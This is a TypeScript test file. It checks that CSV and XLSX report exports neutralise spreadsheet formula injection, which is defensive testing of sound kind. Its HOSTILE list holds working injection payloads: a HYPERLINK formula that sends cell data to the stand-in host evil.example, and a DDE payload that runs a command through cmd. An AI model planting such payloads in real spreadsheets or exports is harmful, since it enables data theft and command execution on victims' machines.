import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { tableToCsv } from '../../src/main/report/csv';
import { judgmentsCsv } from '../../src/main/protocols/judge-ls/judgments-csv';
import type { Table } from '../../src/shared/report/table';
import { writeXlsx } from '../../src/main/report/xlsx';
import { tempDir } from '../helpers/tmp';
import { makeJudgments } from './fixture';

// Every start OWASP lists as one a spreadsheet may run as a formula.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

function cells(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: true });
}

const table = (subsets: string[]): Table => ({
  id: 'subset_quality',
  title: 'Subsets',
  caption: 'Subsets',
  columns: [
    { key: 'subset', header: 'subset', align: 'l', kind: 'text' },
    { key: 'n', header: 'n', align: 'r', kind: 'int' },
  ],
  rows: subsets.map((subset, i) => ({ subset, n: i })),
});

describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
  it('prefixes model reasons that start with = + - @ TAB or CR with a quote in judgments.csv', () => {
    const judgments = makeJudgments().map((j, i) => {
      const reason = HOSTILE[i % HOSTILE.length];
      return { ...j, reason, failureReason: j.status === 'failed' ? reason : j.failureReason };
    });
    const rows = cells(judgmentsCsv(judgments));
    const reasons = rows.slice(1).map((r) => r[r.length - 1]);
    reasons.forEach((reason, i) => expect(reason).toBe(`'${HOSTILE[i % HOSTILE.length]}`));
  });

  it('prefixes subset names in tables/*.csv but leaves plain and negative numbers alone', () => {
    const rows = cells(tableToCsv(table([...HOSTILE, 'Natural', '-0.25', '+3', '1e-5'])));
    expect(rows.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(rows.slice(1 + HOSTILE.length).map((r) => r[0])).toEqual(['Natural', '-0.25', '+3', '1e-5']);
  });

  it('keeps the same texts as plain strings (not formulas) in the XLSX workbook', async () => {
    const { dir, cleanup } = tempDir();
    try {
      const file = join(dir, 'tables.xlsx');
      await writeXlsx([table(HOSTILE)], file);
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(file);
      const sheet = book.worksheets[0];
      HOSTILE.forEach((text, i) => {
        const cell = sheet.getRow(i + 2).getCell(1);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        // XML stores a CR as LF; the point is that the text arrives as text.
        expect(cell.value).toBe(text.replace(/\r/g, '\n'));
      });
    } finally {
      cleanup();
    }
  });
});
